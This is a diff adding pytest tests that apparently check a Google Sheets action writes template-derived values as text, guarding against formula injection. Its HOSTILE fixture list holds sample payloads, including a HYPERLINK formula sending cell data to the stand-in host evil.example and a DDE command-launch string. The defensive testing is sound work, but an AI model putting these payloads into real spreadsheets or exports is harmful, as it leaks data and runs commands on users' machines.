@@ -180,3 +180,34 @@ def test_config_validation():
     with pytest.raises(ConfigError, match="config.values"):
         action.validate_config({"spreadsheet": "k", "values": [{"nested": 1}]})
     action.validate_config({"spreadsheet": "k", "values": ["{{ trigger.body.id }}", 3]})
+
+
+# -- formula injection (issue 23) ----------------------------------------------------
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]
+
+
+def test_would_be_formulas_from_templates_are_written_as_text_and_the_authors_stay_formulas(google):
+    config = {"spreadsheet": SHEET, "worksheet": "Other", "value_input_option": "USER_ENTERED",
+              "values": [*HOSTILE, "-3", "=SUM(1,2)"]}  # fmt: skip
+    raw = {**config, "values": ["{{ trigger.body.a }}", "{{ trigger.body.b }}", "x {{ c }}", "{{ d }}", "{{ e }}",
+                                "=SUM(1,2)"]}  # fmt: skip
+    action.run(config, ctx(google, raw_config=raw))
+    (row,) = google.cells(SHEET, "Other")
+    assert row == [("text", HOSTILE[0]), ("text", HOSTILE[1]), ("text", HOSTILE[2]), ("text", HOSTILE[3]),
+                   ("number", -3.0), ("formula", "=SUM(1,2)")]  # fmt: skip
+
+
+def test_rows_from_a_parsed_file_are_appended_in_one_call_as_text(google):
+    rows = [{"name": "Ada", "note": "=1+1"}, {"name": "Grace", "note": "ok"}]
+    config = {"spreadsheet": SHEET, "worksheet": "Other", "rows": rows, "value_input_option": "USER_ENTERED"}
+    with pytest.raises(PermanentError, match="config.columns"):
+        action.run(config, ctx(google))
+    out = action.run({**config, "columns": ["note", "name"]},
+                     ctx(google, raw_config={"rows": "{{ steps.parse.output.rows }}"}))  # fmt: skip
+    assert google.cells(SHEET, "Other") == [[("text", "=1+1"), ("text", "Ada")], [("text", "ok"), ("text", "Grace")]]
+    assert out["updated_rows"] == 2 and len([r for r in google.requests if r.path.endswith(":append")]) == 1
+
+
+def test_raw_input_never_makes_formulas(google):
+    action.run({"spreadsheet": SHEET, "worksheet": "Other", "values": ["=1+1"]}, ctx(google))
+    assert google.sheets[SHEET]["Other"] == [["=1+1"]] and google.cells(SHEET, "Other") == [[("text", "=1+1")]]
